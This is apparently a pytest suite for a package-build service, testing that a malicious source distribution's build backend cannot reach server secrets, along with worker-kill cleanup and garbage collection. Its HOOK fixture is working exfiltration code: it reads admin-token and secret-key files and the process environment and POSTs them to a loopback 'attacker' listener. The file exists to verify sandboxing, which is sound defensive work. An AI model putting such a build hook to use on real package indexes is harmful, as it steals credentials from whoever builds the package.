"""Builds against the server's secrets, through a real ``envyard serve`` and real workers on loopback.

* A malicious sdist (its build backend reads ``<data-dir>/admin-token`` and ``secret-key``, takes the
  environment and POSTs it all to a listener) served by a loopback pip index: refused by default (wheels only,
  the backend never runs); with the namespace's admin opt-in the backend runs, but in the build sandbox, where
  neither file exists and no secret is in the environment.
* A worker SIGKILLed mid-build takes its build process (and uv under it) with it within 5 s; the directory it
  left is swept when a worker starts on the same work root.
* Garbage collection removes abandoned upload spool files, not those a live upload holds.
"""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import signal
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.commands import ENVYARD
from tests.sdists import build_sdist
from tests.service.conftest import Service, start_service

SERVER_SECRETS = {"ENVYARD_TOKEN": "tok-of-the-server", "AWS_SECRET_ACCESS_KEY": "aws-of-the-server",
                  "AWS_ACCESS_KEY_ID": "aws-id-of-the-server", "ENVYARD_S3_SECRET_KEY": "s3-of-the-server",
                  "ENVYARD_S3_ACCESS_KEY": "s3-id-of-the-server", "DEPLOY_PASSWORD": "pw-of-the-server"}

HOOK = """
import json, os, urllib.request
seen = {"environ": dict(os.environ), "uid": os.getuid()}
for name in ("admin-token", "secret-key"):
    try:
        with open(os.path.join(DATA_DIR, name)) as fh:
            seen[name] = fh.read()
    except OSError as exc:
        seen[name] = "unreadable: " + type(exc).__name__
try:
    seen["data_dir"] = os.listdir(DATA_DIR)
except OSError as exc:
    seen["data_dir"] = "unlistable: " + type(exc).__name__
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
opener.open(urllib.request.Request(REPORT_URL, data=json.dumps(seen).encode(), method="POST"), timeout=10).read()
"""


class _Quiet:
    def log_message(self, *args: Any) -> None:
        pass


def _serve(handler: type[BaseHTTPRequestHandler]) -> tuple[ThreadingHTTPServer, str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A loopback HTTP listener that records every POST body (the attacker's)."""
    received: list[bytes] = []

    class Handler(_Quiet, BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802
            received.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
            self.send_response(204)
            self.end_headers()

    server, url = _serve(Handler)
    yield url + "/collect", received
    server.shutdown()


def _pip_index(root: Path, sdist: Path) -> Iterator[str]:
    """A PEP 503 simple index on loopback serving ``sdist``."""
    name = sdist.name.removesuffix("-1.0.tar.gz").replace("_", "-")
    (root / "files").mkdir(parents=True)
    (root / "files" / sdist.name).write_bytes(sdist.read_bytes())
    digest = hashlib.sha256(sdist.read_bytes()).hexdigest()
    (root / "simple" / name).mkdir(parents=True)
    (root / "simple" / name / "index.html").write_text(
        f'<html><body><a href="../../files/{sdist.name}#sha256={digest}">{sdist.name}</a></body></html>')

    class Handler(_Quiet, SimpleHTTPRequestHandler):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, directory=str(root), **kwargs)

    server, url = _serve(Handler)
    yield url + "/simple/"
    server.shutdown()


def _spec(name: str, pip: str) -> str:
    return (f"name: {name}\nchannels:\n  - e2e\ndependencies:\n  - python\n  - pip:\n    - {pip}\n")


def _submit(service: Service, name: str, pip: str, token: str | None = None) -> dict[str, Any]:
    with service.client(token) as http:
        response = http.post("/api/v1/environments", json={"namespace": "lab", "name": name,
                                                           "spec": _spec(name, pip), "image": False})
        assert response.status_code in (200, 201), response.text
        return dict(response.json())


def test_a_malicious_sdist_is_refused_and_in_the_sandbox_finds_no_secret(
        tmp_path: Path, service_env: dict[str, str], listener: tuple[str, list[bytes]]) -> None:
    report_url, received = listener
    data_dir = tmp_path / "svc" / "data"  # where start_service puts it
    hook = f"DATA_DIR = {str(data_dir)!r}\nREPORT_URL = {report_url!r}\n{HOOK}"
    sdist = build_sdist(tmp_path / "sdist", "evil-backend", "1.0", hook=hook)
    index = _pip_index(tmp_path / "index", sdist)
    service = start_service(tmp_path / "svc", {**service_env, **SERVER_SECRETS,
                                               "ENVYARD_PIP_INDEX_URL": next(index)}, "--workers", "1")
    try:
        admin_token = (data_dir / "admin-token").read_text().strip()
        secret_key = (data_dir / "secret-key").read_text().strip()
        assert admin_token and secret_key

        refused = service.wait_for(_submit(service, "default", "evil-backend")["id"])
        assert refused["status"] == "failed", refused
        assert refused["error"]["code"] == "sdist-not-allowed"
        assert "evil-backend" in refused["error"]["message"]
        assert "admin can allow" not in refused["error"]["message"]  # the what-to-do is in the hint
        assert "admin" in refused["error"]["hint"] and "namespace" in refused["error"]["hint"]
        assert received == []  # the backend never ran

        with service.client() as http:
            user = http.post("/api/v1/tokens", json={"name": "mallory", "role": "user"}).json()
            assert http.put(f"/api/v1/namespaces/lab/grants/{user['id']}", json={"role": "editor"}).status_code == 200
        with service.client(user["token"]) as http:  # a user may not allow sdists, even as editor
            denied = http.patch("/api/v1/namespaces/lab", json={"allow_sdists": True})
            assert denied.status_code == 403, denied.text
            assert http.get("/api/v1/namespaces/lab").json()["allow_sdists"] is False
        with service.client() as http:
            allowed = http.patch("/api/v1/namespaces/lab", json={"allow_sdists": True})
            assert allowed.status_code == 200 and allowed.json()["allow_sdists"] is True

        built = service.wait_for(_submit(service, "opted-in", "evil-backend", user["token"])["id"])
        assert received, f"the backend never ran: {built}"
        for body in received:
            text = body.decode()
            for secret in (admin_token, secret_key, *SERVER_SECRETS.values()):
                assert secret not in text
            seen = json.loads(text)
            assert seen["admin-token"] == "unreadable: FileNotFoundError"
            assert seen["secret-key"] == "unreadable: FileNotFoundError"
            assert seen["data_dir"] == "unlistable: FileNotFoundError"
            leaked = [k for k in seen["environ"] if k in SERVER_SECRETS or k.startswith("AWS_")
                      or any(word in k for word in ("TOKEN", "SECRET", "PASSWORD", "DATABASE", "ACCESS"))]
            assert leaked == []
            assert seen["environ"]["HOME"].startswith(str(service_env["ENVYARD_CACHE_DIR"]))
    finally:
        service.stop()
        next(index, None)


# --- a worker that dies mid-build -----------------------------------------------------------------------------------


def _processes() -> dict[int, tuple[int, str, str]]:
    """pid -> (parent pid, state, command line) of every process."""
    found = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        fields = stat[stat.rindex(")") + 2:].split()
        found[int(entry)] = (int(fields[1]), fields[0], cmdline)
    return found


def _build_processes(worker_pid: int) -> set[int]:
    """The worker's descendants (its build process, bwrap, uv, ...), not yet reaped zombies excluded."""
    processes = _processes()
    family, grew = {worker_pid}, True
    while grew:
        more = {pid for pid, (parent, _state, _cmd) in processes.items() if parent in family} - family
        family |= more
        grew = bool(more)
    return {pid for pid in family - {worker_pid} if processes[pid][1] != "Z"}


def _alive(pids: set[int]) -> set[int]:
    processes = _processes()
    return {pid for pid in pids if pid in processes and processes[pid][1] != "Z"}


@pytest.mark.parametrize("sandbox", ["bwrap", "none"])  # none: the build's own stdin watcher does it alone
def test_a_killed_workers_build_dies_with_it_and_its_directory_is_swept(
        tmp_path: Path, service_env: dict[str, str], sandbox: str) -> None:
    asked = threading.Event()
    release = threading.Event()

    class Hanging(_Quiet, BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            asked.set()
            release.wait(120)  # a pip index that never answers: the build sits in uv

    server, url = _serve(Hanging)
    service = start_service(tmp_path / "svc", service_env, "--workers", "0")
    work = tmp_path / "work"
    try:
        build = _submit(service, "hangs", "never-answered")
        worker_env = {"ENVYARD_PIP_INDEX_URL": url + "/simple/", "ENVYARD_BUILD_SANDBOX": sandbox}
        doomed = service.start_worker("doomed", "--work-dir", str(work), env=worker_env)
        assert asked.wait(90), "the build never reached the pip index"
        pids = _build_processes(doomed.pid)
        commands = " ".join(_processes()[pid][2] for pid in pids)
        assert "worker.job" in commands and "uv" in commands, commands
        left = [p for p in work.iterdir() if p.is_dir()]
        assert [p.name.startswith(f"build-{build['id']}-attempt-1-") for p in left] == [True]

        doomed.send_signal(signal.SIGKILL)
        doomed.wait()
        deadline = time.monotonic() + 5
        while _alive(pids):
            assert time.monotonic() < deadline, f"still running 5 s after the worker died: {_alive(pids)}"
            time.sleep(0.05)
        assert left[0].is_dir()  # nobody cleaned up after the dead worker ...

        service.start_worker("sweeper", "--work-dir", str(work), env=worker_env)
        deadline = time.monotonic() + 30
        while left[0].exists():  # ... until a worker starts on the same work root
            assert time.monotonic() < deadline, "the dead worker's build directory was not swept"
            time.sleep(0.1)
    finally:
        release.set()
        service.stop()
        server.shutdown()


def test_gc_removes_abandoned_spool_files_but_not_a_live_uploads(tmp_path: Path,
                                                                 service_env: dict[str, str]) -> None:
    service = start_service(tmp_path / "svc", service_env, "--workers", "0")
    try:
        spool = service.data_dir / "artifacts" / "tmp"
        abandoned, live, fresh = (spool / f"envyard-upload-{n}" for n in ("abandoned", "live", "fresh"))
        for path in (abandoned, live, fresh):
            path.write_bytes(b"x" * 4096)
        hour_ago = time.time() - 3600
        for path in (abandoned, live):
            os.utime(path, (hour_ago, hour_ago))
        holder = os.open(live, os.O_RDONLY)
        fcntl.flock(holder, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as a live upload holds its spool file
        try:
            with service.client() as http:
                dry = http.post("/api/v1/admin/gc", json={"dry_run": True, "grace_seconds": 600}).json()
                assert (dry["stale_uploads"], dry["stale_upload_bytes"]) == (1, 4096) and abandoned.exists()
                report = http.post("/api/v1/admin/gc", json={"grace_seconds": 600}).json()
            assert (report["stale_uploads"], report["stale_upload_bytes"]) == (1, 4096)
            assert not abandoned.exists() and live.exists() and fresh.exists()
        finally:
            os.close(holder)
    finally:
        service.stop()


def test_namespace_sdists_command(tmp_path: Path, service_env: dict[str, str]) -> None:
    import subprocess

    service = start_service(tmp_path / "svc", service_env, "--workers", "0")
    env = {k: v for k, v in service.env.items() if k not in ("ENVYARD_TOKEN", "ENVYARD_API_URL", "ENVYARD_DATA_DIR")}

    def envyard(*args: str, token: str | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*ENVYARD, "--api", service.url, "--token",
                               token or service.token, *args], capture_output=True, text=True, timeout=120, env=env,
                              cwd=service.log_dir)

    try:
        with service.client() as http:
            assert http.post("/api/v1/namespaces", json={"name": "lab"}).status_code == 201
            user = http.post("/api/v1/tokens", json={"name": "u", "role": "user"}).json()["token"]
        on = envyard("namespace", "sdists", "lab", "on")
        assert on.returncode == 0 and "may build pip source distributions" in on.stdout, on.stderr
        listed = envyard("namespace", "list")
        assert listed.returncode == 0 and "sdists" in listed.stdout.splitlines()[0]
        off = envyard("namespace", "sdists", "lab", "off", "--json")
        assert off.returncode == 0 and json.loads(off.stdout)["allow_sdists"] is False
        refused = envyard("namespace", "sdists", "lab", "on", token=user)
        assert refused.returncode == 8 and refused.stderr.startswith("error: ")
    finally:
        service.stop()
